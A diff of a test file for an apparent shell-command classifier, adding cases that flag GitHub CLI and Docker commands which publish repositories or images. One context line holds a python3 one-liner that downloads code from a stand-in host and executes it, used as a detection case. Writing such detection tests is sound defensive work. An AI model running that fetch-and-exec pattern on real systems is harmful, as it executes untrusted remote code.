@@ -239,6 +239,21 @@ describe('writes, persistence and wrappers', () => {
       { kind: 'publish', command: 'npm publish', text: 'npm publish' },
     );
     has('cd x && make release', { kind: 'publish', command: 'make release', text: 'make release' });
+    // A catalog entry's options come anywhere after its program words, a value beside its option or after `=`.
+    has('gh repo create app --public --push --source=.', { kind: 'publish', command: 'gh repo create --push' });
+    has('gh api repos/o/r/contents/x -X put -f message=m', { kind: 'publish', command: 'gh api -X PUT' });
+    has('gh api -XPUT repos/o/r/pulls/1/merge', { kind: 'publish', command: 'gh api -X PUT' });
+    has('gh repo edit --visibility=public', { kind: 'publish', command: 'gh repo edit --visibility public' });
+    has('docker buildx build -t app --push .', {
+      kind: 'publish',
+      command: 'docker buildx build --push',
+      text: 'docker buildx build -t app --push .',
+    });
+    for (const line of ['gh repo create app --private', 'gh repo edit --visibility private', 'gh api repos/o/r -X GET', 'gh api repos/o/r'])
+      expect(
+        read(line).filter((e) => e.kind === 'publish'),
+        line,
+      ).toEqual([]);
     has(
       'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://x.example\').read())"',
       { kind: 'network', program: 'python3' },
